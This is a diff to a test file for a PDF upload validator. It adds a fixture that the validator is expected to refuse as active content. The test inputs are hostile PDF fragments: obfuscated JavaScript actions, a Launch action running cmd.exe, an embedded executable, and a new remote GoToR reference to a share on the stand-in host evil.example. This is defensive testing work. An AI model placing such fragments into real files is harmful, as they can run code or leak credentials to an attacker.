@@ -97,6 +97,7 @@ test('C13 a PDF that is something else too, or that acts, is refused', async (t)
     ['422 active', pdfFile(action('J#61vaScript'))],
     ['422 active', pdfFile(`% >> stream\n${action('JavaScript')}\n% endstream`)],
     ['422 active', pdfFile('5 0 obj <</S /Launch /F (cmd.exe)>> endobj')],
+    ['422 active', pdfFile('5 0 obj <</S /GoToR /F (\\\\evil.example\\share\\x.pdf)>> endobj')],
     ['422 active', pdfFile('5 0 obj <</Type /Filespec /EF 6 0 R>> endobj 6 0 obj <</Type /EmbeddedFile>> stream\nMZ\nendstream endobj')],
     ['422 active', packed('5 0 <</S /JavaScript /JS (x)>>')],
     ['422 active', packed('5 0 <</S /J#61v#61Scrip#74 /JS (x)>>', '/Obj#53tm')],
